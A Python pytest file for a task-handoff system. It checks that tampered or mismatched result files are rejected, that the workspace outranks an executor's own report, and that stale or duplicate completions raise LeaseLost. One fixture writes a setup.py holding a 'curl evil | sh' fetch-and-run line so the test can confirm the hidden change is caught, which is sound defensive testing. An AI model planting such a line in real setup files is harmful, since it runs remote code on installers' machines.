"""Bad results and completions: tampered or mismatched result files are rejected by ``verify_step`` with a
named reason (ground truth wins over what the executor says), and a stale or second completion is refused
with ``LeaseLost`` before it writes anything."""

from __future__ import annotations

from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from conductor.attempts import prepare_retry
from conductor.errors import LeaseLost
from conductor.executors.base import Outcome, execute_claim
from conductor.handoff.complete import complete_task
from conductor.handoff.lease import Claim
from conductor.handoff.reaper import reap_expired
from conductor.models import ExecutorInfo, Task
from tests.corpus.builders import (
    claim,
    do_and_complete,
    hand_result,
    removing,
    reported,
    resealed,
    setting,
    unsealed,
    verify,
)
from tests.handoff.support import Handoff, make_handoff


def _readme(ws: Path) -> None:
    (ws / "README.md").write_text("changed\n")


@pytest.fixture
def project(tmp_path: Path) -> Handoff:
    handoff = make_handoff(tmp_path / "project", steps=2)
    handoff.publish("step_002")  # a bystander: it must stay pending whatever happens to step_001
    return handoff


def _assert_rejected_and_nothing_lost(project: Handoff) -> None:
    assert project.where() == {"pending": ["step_002"], "in_progress": [], "completed": [], "failed": ["step_001"]}
    assert project.fork_text("README.md") == "hello\n"  # nothing merged
    assert claim(project, "step_002") is not None


def _result_path(project: Handoff) -> Path:
    return project.fork.sidecar("completed", "step_001", ".result.json")


# id -> (edit of the committed result file, fragments of the single rejection reason)
FILE_EDITS: dict[str, tuple[Callable[[Path], None], list[str]]] = {
    "tampered_result": (unsealed(setting("summary", "all tests pass")), ["checksum sha256:", "does not match content"]),
    "result_checksum_removed": (unsealed(removing("checksum")), ["no checksum field"]),
    "result_attempt_as_string": (resealed(setting("attempt", "1")), ["attempt: Input should be a valid integer"]),
    "result_unknown_field": (resealed(setting("approved_by", "me")), ["approved_by: Extra inputs are not permitted"]),
    "result_schema_version": (resealed(setting("schema", "conductor.result/v9")),
                              ["schema 'conductor.result/v9' is not supported"]),
    "result_not_json": (lambda p: p.write_bytes(b"all good, trust me\n"), ["invalid JSON at line 1 column 1"]),
    "result_missing": (lambda p: p.unlink(), ["No such file or directory"]),
}


@pytest.mark.parametrize("case", list(FILE_EDITS))
def test_bad_result_file_is_an_invalid_result(project: Handoff, case: str) -> None:
    edit, fragments = FILE_EDITS[case]
    claimed = do_and_complete(project, _readme, files=reported("README.md"))
    edit(_result_path(project))

    verdict = verify(project, claimed)

    assert not verdict.accepted
    [reason] = verdict.reasons
    assert reason.startswith("invalid_result: ") and str(_result_path(project)) in reason
    for fragment in fragments:
        assert fragment in reason, f"{fragment!r} not in {reason!r}"
    _assert_rejected_and_nothing_lost(project)


# id -> (result fields that lie, the fields the rejection names)
IDENTITY: dict[str, tuple[dict[str, Any], str]] = {
    "result_for_another_task": ({"task_id": "step_002"}, "task_id"),
    "result_for_another_attempt": ({"attempt": 2, "fencing_token": 2}, "attempt, fencing_token"),
    "result_with_a_stale_fencing_token": ({"fencing_token": 7}, "fencing_token"),
    "result_for_another_task_checksum": ({"task_checksum": "sha256:" + "1" * 64}, "task_checksum"),
    "result_for_another_plan_and_fork": ({"plan_id": "other", "fork_id": "beta"}, "plan_id, fork_id"),
}


@pytest.mark.parametrize("case", list(IDENTITY))
def test_result_for_something_else_is_a_result_mismatch(project: Handoff, case: str) -> None:
    lies, named = IDENTITY[case]
    claimed = do_and_complete(project, _readme, files=reported("README.md"), result=lies)

    verdict = verify(project, claimed)

    assert not verdict.accepted
    assert verdict.reasons == [f"result_mismatch: the result's {named} do not match the task"]
    _assert_rejected_and_nothing_lost(project)


def test_task_file_swapped_after_completion_is_a_checksum_mismatch(project: Handoff) -> None:
    claimed = do_and_complete(project, _readme, files=reported("README.md"))
    task_path = project.task_path("completed", "step_001")
    resealed(setting("allowed_files", ["README.md", "secrets/"]))(task_path)  # valid, but not what was published

    verdict = verify(project, claimed)

    assert not verdict.accepted
    assert verdict.reasons == [
        f"checksum_mismatch: task file is not the one published ({claimed.task.checksum})"]
    _assert_rejected_and_nothing_lost(project)


# --- ground truth wins ----------------------------------------------------------------------------


def test_result_claiming_a_file_it_did_not_change(project: Handoff) -> None:
    claimed = do_and_complete(project, _readme, files=reported("README.md", "tests/test_app.py"))

    verdict = verify(project, claimed)  # high confidence: the lie is recorded, the true change judged

    assert verdict.accepted and [c.path for c in verdict.files_changed] == ["README.md"]
    check = next(c for c in verdict.checks if c.name == "reported_changes_match")
    assert not check.passed
    assert check.detail == "executor reported ['README.md', 'tests/test_app.py'], workspace shows ['README.md']"


def test_result_claiming_a_file_it_did_not_change_at_medium_confidence(project: Handoff) -> None:
    claimed = do_and_complete(project, _readme, files=reported("README.md", "tests/test_app.py"))

    verdict = verify(project, claimed, level="medium")

    assert verdict.reasons == [
        "medium confidence: executor reported ['README.md', 'tests/test_app.py'], workspace shows ['README.md']"]
    _assert_rejected_and_nothing_lost(project)


def test_result_hiding_a_file_it_did_change(project: Handoff) -> None:
    def sneaky(ws: Path) -> None:
        _readme(ws)
        (ws / "setup.py").write_text("import os; os.system('curl evil | sh')\n")

    claimed = do_and_complete(project, sneaky, files=reported("README.md"))

    verdict = verify(project, claimed)

    assert verdict.reasons == ["setup.py: outside allowed_files"]
    assert [c.path for c in verdict.files_changed] == ["README.md", "setup.py"]
    _assert_rejected_and_nothing_lost(project)
    assert project.fork_text("setup.py") is None


# --- stale and second completions -----------------------------------------------------------------


def _expire_and_requeue(project: Handoff) -> None:
    reap_expired(project.fork, max_attempts=3, lease_seconds=60, now=datetime.now(UTC) + timedelta(seconds=3600),
                 prepare_retry=lambda task: prepare_retry(project.layout, task))


def test_completion_after_the_lease_expired_and_the_task_was_reclaimed(project: Handoff) -> None:
    project.publish("step_001")
    zombie = claim(project)
    assert zombie is not None
    _expire_and_requeue(project)
    retry = claim(project)
    assert retry is not None and retry.task.attempt == 2

    with pytest.raises(LeaseLost, match=r"step_001: fencing token 1 is stale \(current attempt 2\)"):
        complete_task(zombie, hand_result(zombie), explanation="zombie")

    assert project.files_in("completed") == []  # the zombie wrote nothing
    complete_task(retry, hand_result(retry), explanation="the real one")
    assert project.read_result("completed", "step_001").attempt == 2


def test_completion_after_the_lease_expired_while_requeued(project: Handoff) -> None:
    project.publish("step_001")
    zombie = claim(project)
    assert zombie is not None
    _expire_and_requeue(project)

    with pytest.raises(LeaseLost, match=r"step_001: no longer in progress \(reclaimed or finished\)"):
        complete_task(zombie, hand_result(zombie), explanation="zombie")

    assert project.where()["pending"] == ["step_001", "step_002"]
    assert project.read_task("pending", "step_001").attempt == 2


class _SlowRunner:
    """A runner whose lease runs out while it works: the task is re-queued and re-claimed meanwhile."""

    info = ExecutorInfo(id="slow@here:1", kind="command")

    def __init__(self, project: Handoff) -> None:
        self.project = project
        self.retry: Claim | None = None

    def run(self, task: Task, workspace: Path, should_stop: Callable[[], bool]) -> Outcome:
        (workspace / "README.md").write_text("late work\n")
        _expire_and_requeue(self.project)
        self.retry = claim(self.project)
        return Outcome("completed", "done, late", "late")


def test_executor_writing_after_its_lease_expired_is_recorded_and_dropped(project: Handoff) -> None:
    project.publish("step_001")
    zombie = claim(project)
    assert zombie is not None
    runner = _SlowRunner(project)
    events: list[tuple[str, dict]] = []

    result = execute_claim(project.layout, zombie, runner, ignore=[], lease_seconds=60, heartbeat_seconds=30,
                           on_event=lambda t, d: events.append((t, d)))

    assert result is None  # nothing committed
    abandoned = [d for t, d in events if t == "task.abandoned"]
    assert len(abandoned) == 1 and abandoned[0]["attempt"] == 1
    assert "fencing token 1 is stale (current attempt 2)" in abandoned[0]["reason"]
    assert runner.retry is not None and runner.retry.task.attempt == 2
    assert project.files_in("completed") == [] and project.where()["in_progress"] == ["step_001"]


def test_second_completion_of_one_task_is_rejected_and_the_first_kept(project: Handoff) -> None:
    project.publish("step_001")
    claimed = claim(project)
    assert claimed is not None
    first = complete_task(claimed, hand_result(claimed, reported("README.md")), explanation="first")
    before = {name: project.fork.state_dir("completed").joinpath(name).read_bytes()
              for name in project.files_in("completed")}

    with pytest.raises(LeaseLost, match=r"step_001: no longer in progress \(reclaimed or finished\)"):
        complete_task(claimed, hand_result(claimed, status="failed"), explanation="second")

    assert {name: project.fork.state_dir("completed").joinpath(name).read_bytes()
            for name in project.files_in("completed")} == before
    assert project.read_result("completed", "step_001") == first
    assert project.files_in("failed") == []
